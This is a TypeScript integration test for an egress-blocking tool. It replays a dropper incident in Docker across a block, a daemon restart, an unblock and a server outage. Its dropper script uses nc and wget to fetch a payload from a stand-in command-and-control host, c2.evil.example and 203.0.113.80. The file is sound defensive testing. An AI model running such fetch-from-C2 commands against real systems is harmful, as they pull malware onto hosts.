// The motivating incident, replayed end to end with real parts: a real Docker engine in its own network
// namespace, the real server and agent processes (the agent's sinkhole on the bridge address
// 172.17.0.1:53 inside that namespace), a real upstream (dnsmasq) that resolves the C2's name, and a
// "C2" HTTP server in another namespace reached through Docker's NAT. A busybox container runs the
// dropper's sequence (nc, wget by name, wget by address) before and after `egress-guard block add`,
// across a dockerd restart, after `block rm`, and with the server down.
import t from 'tap'
import { spawn, type ChildProcess } from 'node:child_process'
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { capabilities, requires } from '../helpers/caps.js'
import { CLI, runCli } from '../helpers/cli.js'
import { BUSYBOX_IMAGE, startDocker } from '../helpers/docker.js'
import { dig, startDnsmasq } from '../helpers/dnsmasq.js'
import { inNs, link, makeNs, spawnInNs } from '../helpers/netns.js'
import { until } from '../helpers/wait.js'

const C2_NAME = 'c2.evil.example'
const C2_IP = '203.0.113.80'
const PAYLOAD = 'MINER-PAYLOAD-v1'
const REASON = 'incident 2026-11: base64 dropper C2'
const HOST = 'docker-host-1'

// The dropper's sequence, one step per line so the test can tell which step did what; `rc=` lines give
// each exit status. `busybox timeout` bounds wget: Debian 12's static busybox wget segfaults with -T.
const DROPPER = [
  'exec 2>&1',
  `printf 'GET / HTTP/1.0\\r\\n\\r\\n' | nc -w 3 ${C2_NAME} 80; echo "nc-name rc=$?"`,
  `busybox timeout 8 wget -O- http://${C2_NAME}/; echo "wget-name rc=$?"`,
  `busybox timeout 8 wget -O- http://${C2_IP}/; echo "wget-ip rc=$?"`,
].join('\n')

type Proc = ChildProcess & { out: () => string }

/** The CLI as a long-running process inside `ns` (killed at teardown). */
function startInNs(t: { teardown: (f: () => unknown) => void }, ns: string, args: string[]): Proc {
  const c = spawn('ip', ['netns', 'exec', ns, process.execPath, CLI, ...args], { stdio: ['ignore', 'pipe', 'pipe'] }) as Proc
  let out = ''
  c.stdout!.on('data', (d) => (out = (out + String(d)).slice(-40_000)))
  c.stderr!.on('data', (d) => (out = (out + String(d)).slice(-40_000)))
  c.out = () => out
  t.teardown(() => void (c.exitCode === null && c.signalCode === null && c.kill('SIGKILL')))
  return c
}

const exited = (c: ChildProcess): Promise<void> => new Promise((r) => (c.exitCode !== null || c.signalCode !== null ? r() : c.once('exit', () => r())))

t.test('the incident, replayed in real Docker', async (t) => {
  if (!requires(t, capabilities.netns(), capabilities.docker(), capabilities.tool('dnsmasq'), capabilities.tool('dig'), capabilities.tool('iptables'), capabilities.tool('ipset'))) return
  const tmp = mkdtempSync(join(tmpdir(), `eg-incident-${process.pid}-`))
  t.teardown(() => rmSync(tmp, { recursive: true, force: true }))

  // --- the world: Docker in namespace D, the C2 in namespace C, a veth between them -------------
  const dk = await startDocker(t)
  t.equal(dk.bridgeIp, '172.17.0.1', 'the engine\'s bridge address')
  const c2ns = makeNs(t, 'c2')
  link(dk.ns, ['203.0.113.1/24'], c2ns, [`${C2_IP}/24`])
  const c2 = spawnInNs(t, c2ns, process.execPath, ['-e', `require('http').createServer((q, s) => s.end(${JSON.stringify(PAYLOAD + '\n')})).listen(80, '0.0.0.0', () => console.log('ready'))`])
  await new Promise<void>((resolve, reject) => {
    c2.stdout!.on('data', (d) => String(d).includes('ready') && resolve())
    c2.on('exit', (code) => reject(new Error(`C2 server exited ${code}`)))
  })
  const upstream = await startDnsmasq(t, { netns: dk.ns, address: '127.0.0.1', port: 5399, hosts: { [C2_NAME]: [C2_IP] } })

  // --- egress-guard: tokens, the server and the agent, all inside D -------------------------------
  const data = join(tmp, 'data')
  const lists = join(tmp, 'blocklists')
  mkdirSync(lists)
  writeFileSync(join(lists, 'base.txt'), '# unrelated standing entry\nunrelated.example\n')
  writeFileSync(join(tmp, 'hosts'), '127.0.0.1 localhost\n')
  const adminFile = join(tmp, 'admin.token')
  const agentFile = join(tmp, 'agent.token')
  t.equal((await runCli(['token', 'create', '--role', 'admin', '--data', data, '--out', adminFile])).code, 0)
  t.equal((await runCli(['token', 'create', '--role', 'agent', '--host', HOST, '--data', data, '--out', agentFile])).code, 0)
  const url = 'http://127.0.0.1:8787'
  const serverArgs = ['server', '--data', data, '--blocklists', lists, '--listen', '127.0.0.1:8787', '--admin-token-file', adminFile, '--log-level', 'warn']
  let server = startInNs(t, dk.ns, serverArgs)
  const serverUp = () =>
    until('the server answers', async () => (await runCli(['hosts', '--json', '--server', url, '--token-file', adminFile], { netns: dk.ns })).code === 0, 30_000)
  await serverUp()
  const agent = startInNs(t, dk.ns, [
    'agent', '--server', url, '--token-file', agentFile, '--host', HOST, '--state-dir', join(tmp, 'state'), '--backend', 'iptables',
    '--hosts-file', join(tmp, 'hosts'), '--upstream', `127.0.0.1:${upstream.port}`, '--sinkhole-listen', `${dk.bridgeIp}:53`,
    '--docker-socket', dk.sock, '--reconcile-interval', '1s', '--report-interval', '2s', '--retry-max', '1s', '--log-level', 'info',
  ])
  t.teardown(() => void agent.kill('SIGTERM'))
  await until('the agent enforces the policy', () => /"policy enforced"/.test(agent.out()), 60_000).catch((e: Error) => t.fail(`${e.message}\n${agent.out()}`))

  const admin = (args: string[]) => runCli([...args, '--server', url, '--token-file', adminFile], { netns: dk.ns })
  let seq = 0
  /**
   * Run the dropper in a fresh container that stays up afterwards (a compromised service keeps running,
   * and its hits are attributed while it lives); returns its output once the last step reported. The
   * dropper fires 2 s after the start, as in the incident (the service ran before the payload did), so
   * the agent has seen the container's start event by then.
   */
  const dropper = async (name = `dropper-${process.pid}-${seq++}`): Promise<{ name: string; out: string }> => {
    await dk.docker(['run', '-d', '--name', name, '--dns', dk.bridgeIp, BUSYBOX_IMAGE, 'sh', '-c', `sleep 2\n${DROPPER}\necho dropper-done; sleep 3600`])
    let out = ''
    await until(`container ${name} ran the dropper`, async () => /dropper-done/.test((out = await dk.docker(['logs', name]).catch((e: Error) => e.message))), 60_000).catch((e: Error) => t.fail(`${e.message}\n${out}`))
    return { name, out }
  }
  const sinkholeAnswer = async () => (await dig(dk.bridgeIp, 53, C2_NAME, 'A', [], dk.ns)).answers.map((a) => a[2])
  const inBlockSet = () => {
    try {
      inNs(dk.ns, 'ipset', ['test', 'egress-guard-block4', C2_IP])
      return true
    } catch {
      return false
    }
  }

  // 1. Before the block: the container reaches the C2 by name and by address.
  const before = await dropper()
  t.match(before.out, /nc-name rc=0/, `nc by name works before the block\n${before.out}`)
  t.equal(before.out.split(PAYLOAD).length - 1, 3, 'all three steps fetched the payload')
  t.match(before.out, /wget-ip rc=0/)

  // 2. One command blocks it everywhere.
  const add = await admin(['block', 'add', C2_NAME, '--reason', REASON])
  t.equal(add.code, 0, add.stderr)
  // Bounded wait, not a timed assertion: the latency is printed (the goal is under two seconds).
  const blockMs = await until('the block is enforced (sinkhole answer and kernel set)', async () => (await sinkholeAnswer()).includes('0.0.0.0') && inBlockSet(), 20_000).catch((e: Error) => {
    t.fail(`${e.message}\n${agent.out()}`)
    return -1
  })
  t.comment(`block add -> enforced in ${blockMs} ms (sinkhole answer + kernel set)`)
  const after = await dropper()
  t.notOk(after.out.includes(PAYLOAD), `no step fetched the payload\n${after.out}`)
  t.match(after.out, /nc-name rc=[1-9]/, 'nc by name fails')
  t.match(after.out, /wget-name rc=[1-9]/, 'wget by name fails')
  t.match(after.out, /wget-ip rc=[1-9]/, 'wget by address fails')
  t.match(after.out, /can't connect to remote host \(0\.0\.0\.0\): Connection refused/, 'by name: the sinkhole address, nothing listens there')
  t.match(after.out, /can't connect to remote host \(203\.0\.113\.80\): Connection refused/, 'by address: refused at once by the kernel (REJECT), not timed out')
  t.same(await sinkholeAnswer(), ['0.0.0.0'], 'the lookup gets the sinkhole answer')
  const containerLookup = await dk.docker(['run', '--rm', '--dns', dk.bridgeIp, BUSYBOX_IMAGE, 'nslookup', C2_NAME, dk.bridgeIp]).catch((e: Error) => e.message)
  t.match(containerLookup, /Name:[\s\S]*0\.0\.0\.0/, 'the container\'s own lookup gets 0.0.0.0')
  t.match(inNs(dk.ns, 'iptables', ['-S', 'DOCKER-USER']), /-j EGRESS-GUARD/, 'containers pass through EGRESS-GUARD from DOCKER-USER')

  // 3. The hits name the container, its image, the name and the reason.
  type HitJson = { name: string; host?: string; time: string; container?: { name: string; image: string }; entry: { reason?: string } }
  const hitsFor = async (container: string): Promise<HitJson | undefined> => {
    const r = await admin(['hits', '--json', '--since', '1h', '--domain', C2_NAME])
    if (r.code !== 0) return undefined
    return ((JSON.parse(r.stdout) as { hits: HitJson[] }).hits ?? []).find((h) => h.container?.name === container)
  }
  const allHits = async () => (await admin(['hits', '--json', '--since', '1h'])).stdout
  await until('the hit reaches the server', async () => (await hitsFor(after.name)) !== undefined, 20_000).catch(async (e: Error) => t.fail(`${e.message}\n${await allHits()}\n${agent.out().slice(-3000)}`))
  const hit = await hitsFor(after.name)
  t.match(hit, { name: C2_NAME, host: HOST, container: { name: after.name, image: BUSYBOX_IMAGE }, entry: { reason: REASON } }, 'hits: container, image, name, reason')
  const table = await admin(['hits', '--since', '1h', '--domain', C2_NAME])
  t.match(table.stdout, after.name, 'the table names the container')
  t.match(table.stdout, REASON, 'and the reason')

  // 4. dockerd restarts. While it is down the DOCKER-USER chain is flushed (what a firewall reload
  // around a Docker restart does); the agent's reconcile puts the jump back and the block holds.
  await dk.restart(() => {
    inNs(dk.ns, 'iptables', ['-F', 'DOCKER-USER'])
  })
  const repairMs = await until('the DOCKER-USER jump is restored', () => /-j EGRESS-GUARD/.test(inNs(dk.ns, 'iptables', ['-S', 'DOCKER-USER'])), 30_000).catch((e: Error) => {
    t.fail(`${e.message}\n${agent.out()}`)
    return -1
  })
  t.comment(`DOCKER-USER jump restored ${repairMs} ms after dockerd answered again`)
  const afterRestart = await dropper()
  t.notOk(afterRestart.out.includes(PAYLOAD), `after the restart the block still holds\n${afterRestart.out}`)
  t.match(afterRestart.out, /wget-ip rc=[1-9]/)

  // 5. block rm: the container reaches the C2 again.
  const rm = await admin(['block', 'rm', C2_NAME, '--reason', 'false positive drill'])
  t.equal(rm.code, 0, rm.stderr)
  const unblockMs = await until('the block is lifted', async () => (await sinkholeAnswer()).includes(C2_IP) && !inBlockSet(), 20_000).catch((e: Error) => {
    t.fail(`${e.message}\n${agent.out()}`)
    return -1
  })
  t.comment(`block rm -> lifted in ${unblockMs} ms`)
  const lifted = await dropper()
  t.equal(lifted.out.split(PAYLOAD).length - 1, 3, `all three steps work again\n${lifted.out}`)

  // 6. The server goes away: the block added before it went holds, and hits wait for its return.
  t.equal((await admin(['block', 'add', C2_NAME, '--reason', REASON])).code, 0)
  await until('re-blocked', async () => (await sinkholeAnswer()).includes('0.0.0.0') && inBlockSet(), 20_000).catch((e: Error) => t.fail(e.message))
  server.kill('SIGTERM')
  await exited(server)
  const offline = await dropper()
  t.notOk(offline.out.includes(PAYLOAD), `server down: the block still holds\n${offline.out}`)
  t.match(offline.out, /wget-ip rc=[1-9]/)
  const spool = join(tmp, 'state', 'hits-spool.jsonl')
  await until('the hit waits in the agent\'s spool', () => existsSync(spool) && readFileSync(spool, 'utf8').includes(offline.name), 20_000).catch((e: Error) => t.fail(`${e.message}\n${agent.out()}`))
  server = startInNs(t, dk.ns, serverArgs)
  await serverUp()
  await until('the hit made while the server was down is uploaded', async () => (await hitsFor(offline.name)) !== undefined, 30_000).catch((e: Error) => t.fail(`${e.message}\n${agent.out()}`))
  t.match(await hitsFor(offline.name), { container: { name: offline.name, image: BUSYBOX_IMAGE }, entry: { reason: REASON } })
  t.equal(agent.exitCode, null, 'the agent never exited')
})
